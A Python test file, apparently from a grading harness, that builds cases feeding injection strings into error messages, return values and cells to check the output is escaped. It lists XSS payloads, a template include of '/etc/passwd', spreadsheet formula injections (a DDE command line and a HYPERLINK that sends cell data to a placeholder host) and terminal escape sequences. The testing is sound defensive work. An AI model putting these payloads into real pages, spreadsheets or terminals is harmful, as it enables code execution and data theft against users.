"""Text that would become a script in a page, a formula in a table, or steer a terminal."""

from tests.grading.corpus.case import FULL, NO_DOUBLE, Case, double

TEXTS = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "closing_tags": "</span></main></body><svg/onload=alert(1)>",
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}${7*7}",
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1,1)",
    "tab": "\t=1+1",
    "line_ends": '\r\n=1+1\r\n"zoe","90_sample",9',
    "terminal": "\x1b]0;owned\x07\x1b[2J",
    "direction": "\u202egnorw\u202c",
    "nul_and_surrogate": "\x00\ud800",
    "link": "javascript:alert(1) http://192.0.2.1/",
    "markdown": "[a](javascript:alert(1)) ![b](http://192.0.2.1/b.png)",
    "very_long": "<b>" * 5000,
}

CASES = [
    *(
        Case(f"inject_{name}_by_an_error", NO_DOUBLE, answers=double(f"raise ValueError({text!r})"))
        for name, text in TEXTS.items()
    ),
    *(
        Case(f"inject_{name}_by_an_answer", NO_DOUBLE, answers=double(f"return {text!r}"))
        for name, text in list(TEXTS.items())[:5]
    ),
    *(
        Case(f"inject_{name}_by_a_cell", FULL, added=(f"raise ValueError({text!r})",))
        for name, text in list(TEXTS.items())[:5]
    ),
    Case(
        "inject_by_the_name_of_an_error",
        NO_DOUBLE,
        answers=double("raise type('=<script>alert(1)</script>', (Exception,), {})('x')"),
    ),
]
